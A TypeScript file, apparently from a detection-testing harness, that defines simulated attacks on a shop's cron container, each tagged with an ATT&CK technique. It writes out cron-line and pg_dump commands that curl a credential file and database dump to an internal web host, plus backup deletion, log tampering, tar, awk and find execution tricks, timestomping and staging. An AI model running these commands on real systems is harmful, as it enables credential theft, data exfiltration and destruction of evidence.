import type { Attack } from './attack.ts';

const TABLE = '/etc/cron.d/shop';
const BACKUP = '/usr/local/bin/backup';

const inCron = (id: string, technique: string, title: string, script: string, more: Partial<Attack> = {}): Attack => ({
  id,
  technique,
  title,
  entry: 'exec',
  shows: ['cron'],
  act: ({ sh }) => sh('cron', script),
  ...more,
});

/** What is done in the container that runs jobs, with programs that its jobs use anyway. */
export const JOB_ATTACKS: readonly Attack[] = [
  inCron('cron-line', 'T1053.003', 'a line of the timetable that looks like the one before it', '', {
    entry: 'supply',
    act: async ({ plant, read, turnOfMinute }) => {
      const line =
        '* * * * * root /usr/local/bin/sales-report && curl --silent --max-time 5 --data-binary @/etc/shop/pgpass http://web/healthz\n';
      plant('cron', `${TABLE}.kept`, read('cron', TABLE));
      plant('cron', TABLE, read('cron', TABLE) + line);
      await turnOfMinute(12);
      return { code: 0, stdout: '', stderr: '' };
    },
    after: async ({ plant, read }) => plant('cron', TABLE, read('cron', `${TABLE}.kept`)),
  }),
  inCron('cron-script', 'T1554', 'the script of a job reads what it never did', '', {
    entry: 'supply',
    act: async ({ plant, read, turnOfMinute }) => {
      const script = '/usr/local/bin/sales-report';
      plant('cron', `${script}.kept`, read('cron', script));
      plant(
        'cron',
        script,
        `${read('cron', script)}\ngzip -c /etc/shop/pgpass /etc/passwd >/var/cache/shop/report-0.gz\n`,
      );
      await turnOfMinute(12);
      return { code: 0, stdout: '', stderr: '' };
    },
    after: async ({ plant, read }) =>
      plant('cron', '/usr/local/bin/sales-report', read('cron', '/usr/local/bin/sales-report.kept')),
  }),
  inCron(
    'cron-backup-removal',
    'T1490',
    'removes backups slowly, one after the other',
    'for i in 1 2 3; do touch /backups/shop-$i.sql.gz; done; for f in /backups/*; do rm -f "$f"; sleep 6; done',
  ),
  inCron(
    'cron-log-tampering',
    'T1070.002',
    'takes lines out of a log',
    'sed -i "/items/d" /var/log/shop/sales.log; sleep 1',
  ),
  inCron(
    'cron-tar-program',
    'T1218',
    'runs a program by an option of tar',
    "tar -cf /tmp/x.tar --checkpoint=1 --checkpoint-action=exec='sh -c id' /etc/shop; sleep 1; rm /tmp/x.tar",
  ),
  inCron(
    'cron-staging',
    'T1074.001',
    'packs everything worth taking into an unusual folder',
    'mkdir -p /var/tmp/.cache; tar -czf /var/tmp/.cache/a.tgz /backups /etc/shop /var/log; sleep 1',
  ),
  inCron(
    'cron-disguise',
    'T1036.008',
    'an archive under the name of a picture',
    'tar -czf /var/cache/shop/logo.png /etc/shop /usr/local/bin; sleep 1',
  ),
  inCron(
    'cron-time-stomping',
    'T1070.006',
    'gives a changed script the times of an old one',
    `echo '# nothing' >>${BACKUP}; touch -r /usr/bin/find ${BACKUP}; sleep 1`,
  ),
  inCron(
    'cron-dump-exfiltration',
    'T1048.003',
    'dumps the database and posts it to the allowed web server',
    'export PGPASSFILE=/etc/shop/pgpass; for i in 1 2 3; do pg_dump --host=db --username=shop --dbname=shop --no-password | head -c 900000 | curl --silent --output /dev/null --data-binary @- http://web/healthz; sleep 2; done',
    { touches: ['db', 'web'] },
  ),
  inCron(
    'cron-find-program',
    'T1218',
    'reads a secret by -exec of find',
    "find /etc/shop -type f -exec head -c 100 '{}' ';' >/dev/null; sleep 1",
  ),
  inCron(
    'cron-awk-reader',
    'T1218',
    'reads accounts and starts a shell by awk',
    `awk -F: '{ print $1 }' /etc/passwd >/dev/null; awk 'BEGIN { system("id") }'; sleep 1`,
  ),
];
